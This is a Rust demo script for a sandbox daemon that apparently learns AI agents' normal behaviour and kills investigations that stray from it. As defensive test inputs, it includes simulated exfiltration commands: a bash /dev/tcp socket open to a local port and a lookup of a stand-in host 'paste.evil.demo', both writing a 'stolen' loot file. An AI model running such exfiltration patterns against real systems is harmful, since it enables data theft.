//! `cargo xtask demo`: the whole story on one machine. A daemon; the read-only phase learns
//! from a few well-behaved investigations; it is switched to enforce; a well-behaved run
//! passes and a straying one is killed, with the reason printed; and one that asks the
//! resolver for a name the phase never used is killed before its query leaves (the phase
//! learned its API by name, not by address).
use std::{
    net::TcpListener,
    process::{Command, Stdio},
};

use crate::{
    daemon::{self, Daemon},
    util,
};

fn say(text: &str) {
    use std::io::IsTerminal as _;
    // Bold on a terminal only: a log of the demo gets no escape codes.
    if std::io::stdout().is_terminal() {
        println!("\n\x1b[1m== {text}\x1b[0m");
    } else {
        println!("\n== {text}");
    }
}

/// `paddock run` of a bash script; prints its exit status and paddock's own messages.
fn investigate(daemon: &Daemon, id: &str, script: &str) -> anyhow::Result<Option<i32>> {
    say(&format!("paddock run --investigation-id {id} --phase read-only -- bash -c '{script}'"));
    let out = daemon
        .cmd(&["run", "--investigation-id", id, "--phase", "read-only", "--", "bash", "-c", script])
        // cargo's library path would only add noise to what the investigation opens
        .env_remove("LD_LIBRARY_PATH")
        .stdout(Stdio::null())
        .output()?;
    print!("{}", String::from_utf8_lossy(&out.stderr));
    println!("   exit status {}", out.status.code().map_or("(signal)".into(), |c| c.to_string()));
    Ok(out.status.code())
}

/// The events of `id` worth reading (not first uses of syscalls, not loader and locale
/// files), once it has ended.
fn show_events(daemon: &Daemon, id: &str) -> anyhow::Result<()> {
    let mut follow = daemon
        .cmd(&["events", "--follow", "--investigation", id])
        .stdout(Stdio::piped())
        .spawn()?;
    let stdout = follow.stdout.take().expect("stdout");
    let noise = [
        " syscall ",
        " open /usr/lib",
        " open /lib",
        " open /etc/ld.so",
        " open /usr/share/locale",
        " open /dev/null",
    ];
    for line in std::io::BufRead::lines(std::io::BufReader::new(stdout)).map_while(Result::ok) {
        if !noise.iter().any(|n| line.contains(n)) {
            println!("   {line}");
        }
        if line.contains(" ended ") {
            break;
        }
    }
    let _ = follow.kill();
    let _ = follow.wait();
    Ok(())
}

pub fn run() -> anyhow::Result<()> {
    util::require_root("the demo")?;
    crate::setup::build_steps()?;
    util::build(true)?;
    say("paddock daemon");
    let daemon = daemon::start(&util::target_bin(true, "paddock"), "demo")?;
    println!("{}", util::output(&mut daemon.cmd(&["status"]))?);

    // The API the agents are meant to call, by name through a resolver on loopback; and
    // somewhere they are not.
    let actor = util::target_bin(true, "paddock-test-actor");
    let api_listener = TcpListener::bind("127.0.53.1:0")?;
    let elsewhere = TcpListener::bind("127.0.0.1:0")?;
    let (api, elsewhere) = (api_listener.local_addr()?.port(), elsewhere.local_addr()?.port());
    let mut resolver = Command::new(&actor)
        .arg("dns-serve:127.0.53.53:api.agents.demo:127.0.53.1:600000")
        .spawn()?;
    std::thread::sleep(std::time::Duration::from_millis(200));
    let call_api = |name: &str| format!("{} dial:127.0.53.53:{name}:A:{api}", actor.display());
    let behaves = format!(
        "cat /etc/hostname > /dev/null; ls /etc > /dev/null; {}; echo report > /tmp/paddock-demo-report",
        call_api("api.agents.demo")
    );
    let strays = format!(
        "cat /etc/hostname > /dev/null; base64 /etc/hostname > /dev/null; exec 3<>/dev/tcp/127.0.0.1/{elsewhere}; echo stolen > /tmp/paddock-demo-loot"
    );
    let strays_by_name = format!(
        "cat /etc/hostname > /dev/null; ls /etc > /dev/null; {}; echo stolen > /tmp/paddock-demo-loot",
        call_api("paste.evil.demo")
    );

    say("the read-only phase learns from three well-behaved investigations");
    for i in 1..=3 {
        investigate(&daemon, &format!("triage-{i}"), &behaves)?;
    }
    show_events(&daemon, "triage-1")?;
    say("paddock baseline list");
    print!("{}", util::output(&mut daemon.cmd(&["baseline", "list"]))?);
    say("paddock baseline show read-only   (its egress and DNS, learned by name)");
    for line in util::output(&mut daemon.cmd(&["baseline", "show", "read-only"]))?.lines() {
        if line.starts_with("egress")
            || line.starts_with("dns")
            || line.contains(" port ")
            || line.contains(".demo")
        {
            println!("   {line}");
        }
    }
    say("paddock phase mode read-only enforce");
    println!("{}", util::output(&mut daemon.cmd(&["phase", "mode", "read-only", "enforce"]))?);

    investigate(&daemon, "triage-4", &behaves)?;
    let code = investigate(&daemon, "triage-5-strays", &strays)?;
    show_events(&daemon, "triage-5-strays")?;
    let by_name = investigate(&daemon, "triage-6-strays-by-name", &strays_by_name)?;
    show_events(&daemon, "triage-6-strays-by-name")?;
    println!(
        "\n   /tmp/paddock-demo-loot {}",
        if std::path::Path::new("/tmp/paddock-demo-loot").exists() {
            "EXISTS"
        } else {
            "was never written"
        }
    );
    say("paddock baseline list");
    print!("{}", util::output(&mut daemon.cmd(&["baseline", "list"]))?);
    // The audit writer commits every 50 ms; let the last run's end land first.
    std::thread::sleep(std::time::Duration::from_millis(300));
    say("paddock audit list   (the audit trail, kept in SQLite)");
    print!("{}", util::output_as_is(&mut daemon.cmd(&["audit", "list"]))?);
    say("paddock audit tree triage-5-strays");
    print!("{}", util::output_as_is(&mut daemon.cmd(&["audit", "tree", "triage-5-strays"]))?);
    drop(daemon);
    let _ = resolver.kill();
    let _ = resolver.wait();
    let _ = Command::new("rm")
        .args(["-f", "/tmp/paddock-demo-loot", "/tmp/paddock-demo-report"])
        .status();
    anyhow::ensure!(code == Some(99), "the straying investigation was not killed (exit {code:?})");
    anyhow::ensure!(
        by_name == Some(99),
        "the investigation asking for an unlearned name was not killed (exit {by_name:?})"
    );
    Ok(())
}
